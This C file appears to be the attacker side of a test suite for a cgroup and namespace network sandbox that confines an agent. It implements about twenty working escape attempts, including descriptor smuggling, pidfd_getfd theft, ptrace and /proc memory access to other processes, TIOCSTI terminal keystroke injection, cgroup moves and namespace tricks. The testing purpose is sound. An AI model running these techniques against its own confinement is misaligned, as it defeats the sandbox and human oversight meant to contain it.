/* Out of the cgroup, or by somebody who is not in it. */
#include "attacker.h"

#include <linux/sched.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

/* Descriptors that were open before the cgroup was entered. */
static int held(int number)
{
	if (fcntl(number, F_GETFD) < 0)
		refused("inherited");
	return number;
}

static void inherited_tcp(void) { converse(held(HELD_TCP4), TO4); }
static void inherited_udp4(void) { throw(held(HELD_UDP4), TO4); }
static void inherited_udp6(void) { throw(held(HELD_UDP6), TO6); }

static void passed_tcp(void)
{
	held(ACCOMPLICE);
	converse(CHECK(ask_accomplice(ASK_TCP, -1)), TO4);
}

static void passed_udp(void)
{
	held(ACCOMPLICE);
	throw(CHECK(ask_accomplice(ASK_UDP, -1)), TO4);
}

/* Made here, used there. */
static void given_udp(void)
{
	held(ACCOMPLICE);
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	ask_accomplice(ASK_USE, fd);
	ended("sent");
}

static void deputy(void)
{
	held(ACCOMPLICE);
	ask_accomplice(ASK_SAY, -1);
	ended("sent");
}

/* The accomplice here is a bystander: a process of the same user that knows of nothing. */
static pid_t bystander(void)
{
	const char *number = getenv("ATTACKER_BYSTANDER");
	if (!number)
		ended("nobody there");
	return atoi(number);
}

static void pidfd_getfd_(void)
{
	int process = CHECK(syscall(SYS_pidfd_open, bystander(), 0));
	int fd = CHECK(syscall(SYS_pidfd_getfd, process, HELD_UDP4, 0));
	throw(fd, TO4);
}

static void ptrace_(void)
{
	CHECK(ptrace(PTRACE_SEIZE, bystander(), 0, 0));
	ended("in control");
}

static void process_memory(void)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", bystander());
	CHECK(open(path, O_RDWR));
	ended("in control");
}

/* Types into the terminal that whoever started the agent reads from. */
static void terminal_input(void)
{
	held(TERMINAL);
	CHECK(ioctl(TERMINAL, TIOCSTI, "x"));
	ended("typed");
}

static void move_to(const char *cgroup)
{
	char path[512];
	snprintf(path, sizeof path, "%s/cgroup.procs", cgroup);
	int fd = CHECK(open(path, O_WRONLY));
	CHECK(write(fd, "0", 1));
	throw(new_socket(AF_INET, SOCK_DGRAM, 0), TO4);
}

static void move_cgroup(void) { move_to(outside); }

/* A child that is born elsewhere: no file of the cgroup is opened for writing. */
static void move_clone(void)
{
	struct clone_args born = { .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD };
	born.cgroup = CHECK(open(outside, O_RDONLY | O_DIRECTORY));
	long child = CHECK(syscall(SYS_clone3, &born, sizeof born));
	if (child == 0)
		throw(new_socket(AF_INET, SOCK_DGRAM, 0), TO4);
	waitpid(child, NULL, 0);
	ended("nothing");
}

/* The file by which one moves, opened by whoever started the agent. */
static void move_inherited(void)
{
	CHECK(write(held(CGROUP_FILE), "0", 1));
	throw(new_socket(AF_INET, SOCK_DGRAM, 0), TO4);
}

/* By a mount of one's own, where no right was taken away. */
static void move_by_mount(void)
{
	if (unshare(CLONE_NEWNS) < 0)
		CHECK(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
	CHECK(mount("cgroup2", "/mnt", "cgroup2", 0, NULL));
	move_to("/mnt");
}

/* In a cgroup namespace the root that one sees is one's own cgroup: moving there is no move. */
static void cgroup_namespace(void)
{
	if (unshare(CLONE_NEWCGROUP | CLONE_NEWNS) < 0)
		CHECK(unshare(CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS));
	mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
	CHECK(mount("cgroup2", "/mnt", "cgroup2", 0, NULL));
	move_to("/mnt");
}

static void loopback_up(void)
{
	struct ifreq request = { .ifr_name = "lo", .ifr_flags = IFF_UP };
	ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFFLAGS, &request);
}

static void new_network(void)
{
	if (unshare(CLONE_NEWNET) < 0)
		CHECK(unshare(CLONE_NEWUSER | CLONE_NEWNET));
	loopback_up();
}

static void namespace_tcp(void)
{
	new_network();
	converse(new_socket(AF_INET, SOCK_STREAM, 0), TO4);
}

/* One's own listener on the daemon's port, in one's own namespace. */
static void namespace_squat(void)
{
	new_network();
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in here = { .sin_family = AF_INET, .sin_port = htons(daemon_port),
				    .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	CHECK(bind(fd, (void *)&here, sizeof here));
	CHECK(listen(fd, 8));
	converse(new_socket(AF_INET, SOCK_STREAM, 0), TO4);
}

/* As rootless containers do: a device inside, whose packets a process outside the namespace, but
 * not outside the cgroup, sends on by its own sockets. */
static void namespace_relay(void)
{
	int pair[2];
	CHECK(socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair));
	if (fork() == 0) {
		new_network();
		send(pair[0], payload, payload_size, 0);
		_exit(0);
	}
	char text[64];
	ssize_t size = recv(pair[1], text, sizeof text, 0);
	CHECK(sendto(new_socket(AF_INET, SOCK_DGRAM, 0), text, size, 0, (void *)TO4));
	ended("sent");
}

/* The namespace of the other host, whose file an administrator left about. */
static void namespace_enter(void)
{
	const char *path = getenv("ATTACKER_NAMESPACE");
	int fd = CHECK(open(path ? path : "/run/netns/none", O_RDONLY));
	CHECK(setns(fd, CLONE_NEWNET));
	to4.sin_addr = beside4;
	converse(new_socket(AF_INET, SOCK_STREAM, 0), TO4);
}

/* The answering half of this file, who runs outside. */

static void give(int to, const char *text, size_t size, int fd)
{
	char control[CMSG_SPACE(sizeof fd)] __attribute__((aligned(8))) = { 0 };
	struct iovec part = { (void *)text, size };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1 };
	if (fd >= 0) {
		message.msg_control = control;
		message.msg_controllen = sizeof control;
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof fd);
		memcpy(CMSG_DATA(header), &fd, sizeof fd);
	}
	sendmsg(to, &message, MSG_NOSIGNAL);
}

static ssize_t take(int from, char *text, size_t size, int *fd)
{
	char control[CMSG_SPACE(sizeof *fd)] __attribute__((aligned(8))) = { 0 };
	struct iovec part = { text, size };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control,
				  .msg_controllen = sizeof control };
	ssize_t got = recvmsg(from, &message, 0);
	struct cmsghdr *header = got > 0 ? CMSG_FIRSTHDR(&message) : NULL;
	*fd = -1;
	if (header && header->cmsg_type == SCM_RIGHTS)
		memcpy(fd, CMSG_DATA(header), sizeof *fd);
	return got;
}

struct errand {
	char letter;
	struct sockaddr_in to;
	char text[sizeof payload];
	int size;
};

int ask_accomplice(char letter, int fd)
{
	struct errand errand = { .letter = letter, .to = to4, .size = payload_size };
	memcpy(errand.text, payload, sizeof payload);
	give(ACCOMPLICE, (char *)&errand, sizeof errand, fd);
	char answer;
	int given;
	take(ACCOMPLICE, &answer, 1, &given);
	return given;
}

void become_accomplice(int fd)
{
	struct errand errand;
	int given;
	while (take(fd, (char *)&errand, sizeof errand, &given) == sizeof errand) {
		int made = -1;
		if (errand.letter == ASK_UDP)
			made = socket(AF_INET, SOCK_DGRAM, 0);
		if (errand.letter == ASK_TCP)
			made = socket(AF_INET, SOCK_STREAM, 0);
		if (errand.letter == ASK_SAY)
			given = socket(AF_INET, SOCK_DGRAM, 0);
		if (given >= 0)
			sendto(given, errand.text, errand.size, 0, (void *)&errand.to, sizeof errand.to);
		give(fd, "!", 1, made);
		close(given);
		close(made);
	}
}

const struct attempt escape_attempts[] = {
	{ "inherited-tcp", inherited_tcp },
	{ "inherited-udp4", inherited_udp4 },
	{ "inherited-udp6", inherited_udp6 },
	{ "passed-tcp", passed_tcp },
	{ "passed-udp", passed_udp },
	{ "given-udp", given_udp },
	{ "deputy", deputy },
	{ "pidfd-getfd", pidfd_getfd_ },
	{ "ptrace", ptrace_ },
	{ "process-memory", process_memory },
	{ "terminal-input", terminal_input },
	{ "move-cgroup", move_cgroup },
	{ "move-clone", move_clone },
	{ "move-inherited", move_inherited },
	{ "move-by-mount", move_by_mount },
	{ "cgroup-namespace", cgroup_namespace },
	{ "namespace-tcp", namespace_tcp },
	{ "namespace-squat", namespace_squat },
	{ "namespace-relay", namespace_relay },
	{ "namespace-enter", namespace_enter },
	{ 0 },
};
